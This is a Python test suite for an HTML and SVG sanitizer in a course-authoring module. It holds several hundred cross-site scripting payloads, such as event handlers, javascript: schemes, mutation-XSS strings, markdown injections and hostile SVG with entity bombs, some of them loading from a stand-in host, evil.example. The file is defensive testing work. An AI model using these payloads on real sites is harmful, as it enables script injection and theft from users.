"""Nothing active passes, whatever is written; what an author loses is named; a picture only draws."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree, html

from dataide_xblocks.authoring import sanitize

# Written here again on purpose: a tag added to the module by mistake must fail a test.
ACTIVE_TAGS = {
    *("script", "style", "svg", "math", "iframe", "object", "embed", "template", "form", "input", "button", "link"),
    *("meta", "base", "video", "audio", "frame", "textarea", "select", "noscript", "marquee"),
}
KNOWN_ATTRIBUTES = {
    *("alt", "class", "colspan", "data-label", "height", "href", "id", "lang", "open", "rel", "rowspan", "scope"),
    *("src", "start", "target", "title", "width"),
}
SAFE_ADDRESS = re.compile(r"(https?://|mailto:|/static/|/jump_to_id/|#[a-z0-9-]+-fn)")

HANDLERS = ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover", "onanimationend")
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "&#106;avascript:", "javascript&colon;")
SCHEMES += (
    "vbscript:",
    "data:text/html,",
    "data:image/svg+xml,",
    "file:///etc/",
    "//evil.example/",
    "blob:",
    "jav&Tab;ascript:",
)
OPENERS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "video src=x",
    "input autofocus",
    "math",
    "p",
    "a",
    "marquee",
    "object data=x",
)


FAMOUS = (
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
    "<style>*{background:url(//evil.example)}</style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;javascript:alert(1)'>",
    "`<script>alert(1)</script>` <b>`</b><script>alert(1)</script>",
    "```text\n</code></pre><script>alert(1)</script>\n```",
    "*[x]: \"><script>alert(1)</script>\n\nx",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "!!! note \"<img src=x onerror=alert(1)>\"\n    <script>alert(1)</script>",
    "a {: onclick=\"alert(1)\" style=\"x\" id=\"location\" .evil }",
    "<a href='/static/../../x' onclick=1>x</a><a href='/static/\\evil'>x</a>",
    "<p id=fn-1 name=x><form id=attributes><input name=parentNode></form>",
    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
    "</body></html><script>alert(1)</script>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=https://a.example/\"onmouseover=alert(1)>x</a>",
    "<img src=`x`onerror=alert(1)><img/src/onerror=alert(1)>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<p lang='fr\" onclick=\"alert(1)'>x</p>",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """A few hundred hostile texts, of the families that sanitizers have missed."""
    for opener in OPENERS:
        for handler in HANDLERS:
            yield f"<{opener} {handler}=alert(1)>"
            yield f"<{opener}/{handler}='alert(1)'//"
    for scheme in SCHEMES:
        yield f'<a href="{scheme}alert(1)">click here</a>'
        yield f"<a href='{scheme}alert(1)' target=_top id=x name=y style=position:fixed>x</a>"
        yield f'<img src="{scheme}alert(1)">'
        yield f"[x]({scheme}alert(1))"
        yield f"![x]({scheme}alert(1))"
        yield f"<{scheme}alert(1)>"
        yield f"[x][1]\n\n[1]: {scheme}alert(1)"
        yield f'[x](https://a.example "onclick=alert(1)"){{: href="{scheme}alert(1)" onclick="alert(1)" }}'
        yield f'<iframe src="{scheme}alert(1)"></iframe><form action="{scheme}1"><button formaction="{scheme}1">'
        yield f'<svg><a xlink:href="{scheme}alert(1)"><text y=20>x</text></a></svg>'
    yield from FAMOUS


PAYLOADS = tuple(payloads())


def active(text: str) -> list[str]:
    """What a browser would act on in `text`: it is read as HTML, not searched."""
    found = []
    for element in html.document_fromstring(f"<body>{text}</body>").iter():
        if not isinstance(element.tag, str) or element.tag in ACTIVE_TAGS:
            found.append(str(element.tag))
            continue
        found += [f"{element.tag} {name}" for name in element.attrib if name not in KNOWN_ATTRIBUTES]
        for name in ("href", "src"):
            if not SAFE_ADDRESS.match(element.get(name, "/static/")):
                found.append(element.get(name))
    return found


def test_the_payloads_are_many_and_really_active() -> None:
    assert len(PAYLOADS) > 250
    raw = [text for text in PAYLOADS if text.startswith("<") and active(text.replace("\x01", "").replace("\x02", ""))]
    assert len(raw) > 200


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_payload_stays_active(text: str) -> None:
    clean = sanitize.sanitize(text)
    assert active(clean) == []
    etree.fromstring(f"<div>{clean}</div>")


def test_what_is_dropped_goes_with_its_content_and_the_rest_stays() -> None:
    assert sanitize.sanitize("a<script>alert(1)</script><b>b</b><svg><text>t</text></svg>c") == "a<b>b</b>c"


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("<p onclick='x'>a</p>", 'onclick="x"'),
        ("<script>x</script>", "<script>"),
        ("<p style='color:red' id='a'>x</p>", 'style="color:red"'),
        ("<p class='evil'>x</p>", 'class="evil"'),
        ("<a href='javascript:x'>a</a>", 'href="javascript:x"'),
        ("<font>a</font>", "<font>"),
    ],
)
def test_what_is_lost_is_named(text: str, what: str) -> None:
    assert what in [name for name, _needle in sanitize.removed(text)]


def test_a_link_that_leads_nowhere_is_only_its_words() -> None:
    assert sanitize.sanitize("<p><a href='javascript:x' title='y'>le <b>plan</b></a>.</p>") == "<p>le <b>plan</b>.</p>"


def test_a_clean_text_loses_nothing_and_does_not_change() -> None:
    clean = '<p lang="en">a <a href="https://a.example/?x=1&amp;y=2">b</a><br/><!-- a note --></p>'
    assert sanitize.removed(clean) == ()
    assert sanitize.sanitize(clean) == clean.replace("<!-- a note -->", "")
    assert sanitize.sanitize(sanitize.sanitize(clean)) == sanitize.sanitize(clean)


PIECES = st.sampled_from(
    [
        *PAYLOADS[:40],
        *PAYLOADS[-32:],
        "<",
        ">",
        "'",
        '"',
        "</p>",
        "<p ",
        "<table>",
        "<td>",
        "<svg>",
        "<math>",
        "<mtext>",
        "<style>",
    ]
)
SOUP = st.lists(PIECES | st.text(max_size=5), max_size=8).map("".join)


@settings(max_examples=150, deadline=None)
@given(SOUP)
def test_neither_engine_lets_anything_outside_the_policy_through(text: str) -> None:
    nh3 = pytest.importorskip("nh3", reason="nh3 is the second engine: install it to compare")
    second = nh3.clean(
        text,
        tags=set(sanitize.TAGS),
        clean_content_tags=set(sanitize.DROPPED),
        attributes={tag: set(names) for tag, names in sanitize.ATTRIBUTES.items() if tag != "a"}
        | {"a": set(sanitize.ATTRIBUTES["a"]) - {"rel"}},
        attribute_filter=lambda tag, name, value: value if sanitize.allowed(tag, name, value) else None,
        url_schemes=set(sanitize.PROTOCOLS),
        link_rel=None,
    )
    assert active(sanitize.sanitize(text)) == []
    assert active(second) == []


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"{}>{}</svg>'

HOSTILE = [
    ("<script>", SVG.format("", "\n<script>alert(1)</script>"), 2),
    ("onload", SVG.format(' onload="alert(1)"', ""), 1),
    ("foreignObject", SVG.format("", "\n\n<foreignObject/>"), 3),
    ("external href", SVG.format("", '<use href="https://evil.example/a.svg#x"/>'), 1),
    ("xlink", SVG.format("", '<use xlink:href="javascript:alert(1)"/>'), 1),
    ("image", SVG.format("", '<image href="data:image/png;base64,AA"/>'), 1),
    ("link", SVG.format("", '<a href="#x"><path/></a>'), 1),
    ("animate", SVG.format("", '<animate attributeName="href" to="javascript:alert(1)"/>'), 1),
    ("style url", SVG.format("", "<style>path{fill:url(//evil.example)}</style>"), 1),
    ("style import", SVG.format("", "<style>@import 'x';</style>"), 1),
    ("style escape", SVG.format("", "<style>path{fill:u\\72l(x)}</style>"), 1),
    ("style attribute", SVG.format("", '<path style="fill:url( https://evil.example )"/>'), 1),
    ("doctype", '\n<!DOCTYPE svg [<!ENTITY x "y">]>' + SVG.format("", "&x;"), 2),
    ("bomb", '<!doctype a [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><svg/>', 1),
    ("stylesheet", '<?xml-stylesheet href="x.css"?>' + SVG.format("", ""), 1),
    ("not svg", "<html xmlns='http://www.w3.org/1999/xhtml'/>", 1),
    ("not xml", "GIF89a", 1),
    ("foreign namespace", SVG.format("", '<x:script xmlns:x="http://www.w3.org/1999/xhtml"/>'), 1),
]


@pytest.mark.parametrize(("name", "text", "line"), HOSTILE, ids=[case[0] for case in HOSTILE])
def test_a_hostile_picture_is_refused_at_its_line(name: str, text: str, line: int) -> None:
    found = sanitize.svg_findings(text.encode())
    assert found
    assert found[0].line == line
    assert found[0].blocking


def test_a_picture_in_another_encoding_is_refused_rather_than_guessed() -> None:
    hidden = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE svg [<!ENTITY x "y">]><svg>&x;</svg>'
    assert sanitize.svg_findings(hidden.encode("utf-16"))
    assert "UTF-8" in sanitize.svg_findings(SVG.format("", "é").encode("latin-1"))[0].message
    assert sanitize.svg_findings(b'<?xml version="1.0" encoding="UTF-7"?>' + SVG.format("", "").encode())


def test_a_picture_that_only_draws_is_accepted() -> None:
    body = (
        '<!-- a note --><title>T</title><defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs>'
        '<style>path { fill: url(#g) }</style><g style="fill: url( \'#g\' )"><use xlink:href="#g"/><text>é</text></g>'
    )
    assert sanitize.svg_findings(SVG.format(' viewBox="0 0 1 1"', body).encode()) == ()


def test_what_prose_may_be_dressed_with_is_dressed() -> None:
    style = (Path(sanitize.__file__).parent / "course.css").read_text("utf-8")
    ruled = set(re.findall(r"\.([a-z][a-z-]+)", style))
    plain = {"admonition", "footnote-ref", "footnote-backref", "language-text"}  # as the text around them
    assert sanitize.CLASSES - plain - ruled == set()
